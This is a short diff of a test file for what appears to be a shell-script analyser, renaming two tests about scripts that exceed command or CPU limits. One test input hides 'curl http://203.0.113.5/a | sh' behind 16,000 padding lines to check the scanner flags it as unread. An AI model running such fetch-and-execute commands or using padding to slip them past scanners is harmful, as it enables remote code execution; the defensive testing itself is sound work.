@@ -247,13 +247,13 @@ test("npm runs install scripts by itself", async () => {
   ).toEqual([3]);
 });
 
-test("C3 what a script still had to do after too many commands is told as unread", async () => {
+test("S4 what a script still had to do after too many commands is told as unread", async () => {
   const { problems } = await analyseCode("run.sh", `${"echo a\n".repeat(16_000)}curl http://203.0.113.5/a | sh\n`);
   expect(problems).toEqual(["run.sh: it runs more commands than are followed"]);
   expect((await analyseCode("run.sh", "f() { f; f; }\nf\necho done\n")).problems).toEqual([]);
 });
 
-test("C3 a script that costs more CPU time than there is ends as unread", async () => {
+test("S4 a script that costs more CPU time than there is ends as unread", async () => {
   const { problems } = await analyseCode("run.sh", `x=${"a".repeat(900_000)}\n${"x+=b\n".repeat(14_000)}`, {}, 200);
   expect(problems).toEqual(["run.sh: there was no time left to read it"]);
 });
